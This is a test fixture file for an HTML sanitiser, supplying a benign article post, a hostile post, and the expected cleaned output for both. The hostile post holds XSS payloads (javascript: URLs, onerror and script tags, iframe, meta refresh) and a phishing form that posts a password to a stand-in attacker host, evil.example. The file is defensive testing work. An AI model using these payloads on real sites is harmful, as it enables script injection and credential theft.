/** Post bodies for the sanitiser's tests, in the browser (jsdom) and on the server (Node). */

export const hostilePost = `
  <h2>Quarterly update</h2>
  <p style="background:url(javascript:alert(1))">Please sign in again to keep reading.</p>
  <form action="https://evil.example/steal" method="post">
    <label>Password <input name="password" type="password"></label>
    <select name="bank"><option>Yours</option></select>
    <textarea name="notes"></textarea>
    <button formaction="https://evil.example/other">Continue</button>
  </form>
  <a href="javascript:alert(1)">a link that runs code</a>
  <img src="x.png" alt="chart" onerror="alert(1)">
  <iframe src="https://evil.example/frame"></iframe>
  <object data="https://evil.example/flash"></object>
  <svg><script>alert(1)</script></svg>
  <style>body { display: none }</style>
  <script>alert(1)</script>
  <meta http-equiv="refresh" content="0;url=https://evil.example">
`;

export const articlePost = `
  <h2 id="why">Why private AI</h2>
  <p>Read <a href="https://veritenant.example/trust" title="Trust">our trust center</a>, <em>now</em>.</p>
  <ul><li>one</li><li><strong>two</strong></li></ul>
  <blockquote cite="https://example.com">Quoted</blockquote>
  <pre><code>npm start</code></pre>
  <table><thead><tr><th scope="col">Plan</th></tr></thead><tbody><tr><td>Enterprise</td></tr></tbody></table>
  <figure><img src="/chart.png" alt="Chart" width="640" height="320"><figcaption>Figure 1</figcaption></figure>
`;

/**
 * What the sanitiser makes of each, the same on the server and in the browser (else the hydration
 * would find other HTML in the post than it makes): removed elements leave their text.
 */
export const sanitised = {
  hostilePost:
    '\n  <h2>Quarterly update</h2>\n  <p>Please sign in again to keep reading.</p>\n  \n    Password \n    Yours\n    \n    Continue\n  \n  <a>a link that runs code</a>\n  <img src="x.png" alt="chart">\n  \n  \n  \n  \n  \n  \n',
  articlePost:
    '\n  <h2 id="why">Why private AI</h2>\n  <p>Read <a href="https://veritenant.example/trust" title="Trust">our trust center</a>, <em>now</em>.</p>\n  <ul><li>one</li><li><strong>two</strong></li></ul>\n  <blockquote cite="https://example.com">Quoted</blockquote>\n  <pre><code>npm start</code></pre>\n  <table><thead><tr><th scope="col">Plan</th></tr></thead><tbody><tr><td>Enterprise</td></tr></tbody></table>\n  <figure><img src="/chart.png" alt="Chart" width="640" height="320"><figcaption>Figure 1</figcaption></figure>\n',
};
